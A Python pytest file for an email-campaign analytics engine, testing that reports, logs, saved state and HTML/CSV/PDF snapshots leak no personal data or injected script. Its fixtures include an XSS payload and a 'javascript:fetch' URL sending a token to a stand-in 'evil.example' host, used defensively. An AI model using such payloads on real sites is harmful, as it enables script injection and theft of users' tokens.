"""Nothing about a person leaves the engine: no query, token, address or URL, wherever it was."""

from __future__ import annotations

import json
import logging
from contextlib import closing
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any, Final

import pyarrow.parquet as pq
import pypdfium2
import pytest

from campaign_live_widgets.app.jobs.snapshot_run import snapshot
from campaign_live_widgets.app.reader.messages.codec import Answer, encode_answer, to_answer
from campaign_live_widgets.app.reader.messages.protocol import decode_body
from campaign_live_widgets.engine import new_rollup
from campaign_live_widgets.report import to_json
from tests.support.cli import call
from tests.support.events import files

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

Row = dict[str, Any]

AT: Final = datetime(2026, 11, 23, 12, tzinfo=UTC)
TOKEN: Final = "9f8e7d6c5b4a39281706abcd"  # noqa: S105 - made up
ADDRESS: Final = "jane.doe@mail.example"
SCRIPT: Final = "<script>alert('pwned')</script>"
URLS: Final = (
    f"https://Shop.example.com/sale/?u={ADDRESS}&t={TOKEN}#{TOKEN}",
    f"https://jane.doe:{TOKEN}@shop.example.com:8443/{TOKEN}/x",
    f"https://shop.example.com/u/{ADDRESS}/{'1234567890'}",
    "https://shop.example.com/u/jane.doe%40mail.example",
    f"mailto:{ADDRESS}?subject={TOKEN}",
    f"javascript:fetch('//evil.example/{TOKEN}')",
    f"{SCRIPT}?{TOKEN}",
    f"https://shop.example.com/{SCRIPT}?{TOKEN}",
    f"//shop.example.com/?{TOKEN}",
    f"ana {ADDRESS} {TOKEN}",
)
TEXTS: Final = (
    ADDRESS,
    f"550 5.1.1 <{ADDRESS}>: user unknown",
    f"https://evil.example/?t={TOKEN}",
    f"{SCRIPT}{TOKEN}",
    f"{TOKEN}\n{ADDRESS}",
)
"""What is no code, no domain, and no way to recognise a machine."""
SECRETS: Final = ("jane.doe", TOKEN, "1234567890", ":8443", "evil.example/", "mailto:")
LINKS: Final = {
    "mailto": 1,
    "shop.example.com/*/x": 1,
    f"shop.example.com/{SCRIPT}": 1,
    "shop.example.com/sale": 1,
    "shop.example.com/u/*": 1,
    "shop.example.com/u/*/*": 1,
    "unknown": 4,
}


def rows() -> Iterator[Row]:
    """Yield events, each with something hostile in one of the columns that reports group by."""

    def event(kind: str, **more: object) -> Row:
        number = next(numbers)
        return {
            "event_id": f"e{number}",
            "timestamp": (AT - timedelta(minutes=5, seconds=number)).isoformat(),
            "campaign_id": "c1",
            "message_id": "m1",
            "channel": "email",
            "profile_id": f"{ADDRESS}-{number}",
            "event_type": kind,
            "domain": "mail.example",
            **more,
        }

    numbers = iter(range(1_000))
    for _ in range(40):
        yield event("sent")
        yield event("delivered")
    for url in URLS:
        yield event("click", url=url, is_machine=False)
    for text in TEXTS:
        for kind in ("sent", "delivered", "open"):
            yield event(kind, domain=text)
        yield event("open", is_machine=True, machine_reason=text)
        yield event("click", is_machine=True, machine_reason=text, url="https://shop.example.com/m")
        for kind in ("bounce", "delay"):
            yield event(kind, status_code=text, domain=text, reason="Mailbox-Full")
    yield event("bounce", status_code="5.1.1", reason=SCRIPT)
    yield event("open", is_machine=True, machine_reason="prefetch")


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = [json.dumps(row) + "\n" for row in rows()]
    (folder / "events.ndjson").write_text("".join(lines), encoding="utf-8")
    return folder


def assert_harmless(text: str, where: object) -> None:
    """Check that a text has nothing about a person."""
    seen = [secret for secret in SECRETS if secret in text]
    assert not seen, (where, seen, text[max(0, text.find(seen[0]) - 60) :][:120])


class Tags(HTMLParser):
    """The scripts of a page, each as its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self._inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: ARG002
        self._inside = tag == "script"

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002
        self._inside = False

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.scripts.append(data)


def test_reports_in_every_format_are_harmless(
    source: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for form in ("text", "json", "csv"):
        run = call("report", str(source), "--at", AT.isoformat(), "--format", form)
        assert run.code == 0, run.err
        assert_harmless(run.out, form)
        assert_harmless(run.err, form)
        if form == "json":
            tiles = json.loads(run.out)["widgets"]
    assert_harmless(caplog.text, "log")
    links = {row[0]: row[1] - row[2] for row in tiles["email.links"]["rows"]}
    assert {link: clicks for link, clicks in links.items() if clicks} == LINKS
    machines = {row[0]: tuple(row[1:]) for row in tiles["email.machine_reasons"]["rows"]}
    assert machines == {"unknown": (len(TEXTS), len(TEXTS)), "prefetch": (1, 0)}
    codes = {row[0] for row in tiles["deliverability.bounce_codes"]["rows"]}
    assert codes == {"5.1.1", "unknown"}


@pytest.mark.parametrize("form", ["ndjson", "csv", "parquet"])
def test_what_the_engine_keeps_and_sends_is_harmless(form: str, tmp_path: Path) -> None:
    folder, states = tmp_path / "events", tmp_path / "states"
    folder.mkdir()
    events = [row | {"timestamp": datetime.fromisoformat(row["timestamp"])} for row in rows()]
    files.write(events, folder / f"events.{form}")
    with closing(new_rollup(folder, "c1", state=states)) as rollup:
        rollup.refresh()
        made = rollup.snapshot(at=AT, window=timedelta(hours=24))
        assert rollup.save(wait=True)
    (state,) = states.iterdir()
    message = encode_answer(Answer(made, "1-1", AT, AT))
    assert to_json(to_answer(decode_body(message)).snapshot) == to_json(made)
    for body in (state.read_bytes(), message):
        text = body.decode("utf-8", "replace")
        assert "shop.example.com/u/*" in text
        assert_harmless(text, "kept")


def test_columns_that_a_file_lacks_are_null(tmp_path: Path) -> None:
    """As those that were written before the columns were there."""
    lost = ("url", "is_machine", "machine_reason", "status_code")
    events = [
        {name: value for name, value in row.items() if name not in lost}
        | {"timestamp": datetime.fromisoformat(row["timestamp"])}
        for row in rows()
    ]
    table = files.table(events)
    assert not {*lost} & {*table.column_names}
    pq.write_table(table, tmp_path / "events.parquet")
    with closing(new_rollup(tmp_path, "c1")) as rollup:
        rollup.refresh()
        tiles = to_json(rollup.snapshot(at=AT, window=timedelta(hours=24)))["widgets"]
    clicks, failures = len(URLS) + len(TEXTS), {"bounce", "delay"}
    assert tiles["email.machine_reasons"]["rows"] == []
    assert [row[:3] for row in tiles["email.links"]["rows"]] == [["unknown", clicks, 0]]
    codes = tiles["deliverability.bounce_codes"]["rows"]
    assert {row[0] for row in codes} == {"unknown"}
    assert sum(row[3] + row[4] for row in codes) == sum(e["event_type"] in failures for e in events)


def test_every_file_of_a_snapshot_is_harmless(
    source: Path,
    tmp_path: Path,
    kernels: None,  # noqa: ARG001
    renderers: None,  # noqa: ARG001
) -> None:
    parameters = {"source": str(source), "campaign": "c1", "at": AT.isoformat()}
    made = snapshot(parameters, tmp_path, ("html", "csv", "pdf"))
    paths = [path for path in made.rglob("*") if path.is_file()]
    assert {path.suffix for path in paths} >= {".html", ".csv", ".pdf", ".json", ".ipynb"}
    for path in paths:
        text = _text(path)
        assert_harmless(text, path.name)
        if path.suffix == ".html":
            assert SCRIPT not in text
            assert not [one for one in Tags(text).scripts if one.startswith("alert(")]
        if path.name == "report.html":
            assert "shop.example.com/sale" in text


def _text(path: Path) -> str:
    if path.suffix == ".pdf":
        with closing(pypdfium2.PdfDocument(path)) as pdf:
            return "\n".join(page.get_textpage().get_text_range() for page in pdf)
    return path.read_text(encoding="utf-8", errors="replace")
